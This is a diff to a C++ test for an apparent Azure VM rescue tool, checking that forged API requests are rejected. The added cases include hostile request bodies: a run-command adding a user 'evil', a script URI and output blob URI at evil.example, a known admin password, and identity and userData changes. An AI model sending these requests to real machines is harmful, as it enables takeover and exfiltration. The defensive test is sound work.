@@ -106,6 +106,7 @@ TEST_CASE("a forged request is not sent", "[rescue][allowed]") {
   const std::string vm = job.at.vm;
   const std::string group = offline::group_of(vm);
   const std::string copy = job.at.copy;
+  const std::string script = vm + "/runCommands/azvmreset-" + planned.plan.id + "-marker";
   const PlanCall forged[] = {
       call("DELETE", with_version(job.at.os_disk)),
       call("PUT", with_version(job.at.os_disk), "{}"),
@@ -135,6 +136,17 @@ TEST_CASE("a forged request is not sent", "[rescue][allowed]") {
            R"({"properties":{"storageProfile":{"osDisk":{"managedDisk":{"id":")" + group +
                R"(/providers/Microsoft.Compute/disks/another"}}}}})"),
       call("PUT", with_version(copy), "no JSON"),
+      call("PUT", with_version(script), R"({"properties":{"source":{"script":"net user evil /add"}}})"),
+      call("PUT", with_version(script), R"({"properties":{"source":{"script":"{script: write}"}}})"),
+      call("PUT", with_version(script), R"({"properties":{"source":{"script":["{script: marker}"]}}})"),
+      call("PUT", with_version(script), R"({"properties":{"source":{"scriptUri":"https://evil.example/x"}}})"),
+      call("PUT", with_version(script), R"({"properties":{"source":{"commandId":"RunPowerShellScript"}}})"),
+      call("PUT", with_version(script), R"({"properties":{"runAsUser":"evil"}})"),
+      call("PUT", with_version(script), R"({"properties":{"outputBlobUri":"https://evil.example/x"}})"),
+      call("PATCH", with_version(vm), R"({"properties":{"extensionProfile":{}}})"),
+      call("PATCH", with_version(vm), R"({"identity":{"type":"SystemAssigned"}})"),
+      call("PATCH", with_version(vm), R"({"properties":{"osProfile":{"adminPassword":"known"}}})"),
+      call("PATCH", with_version(vm), R"({"properties":{"userData":"eA=="}})"),
   };
   for (const PlanCall& one : forged) {
     CAPTURE(one.method, one.url, one.body);
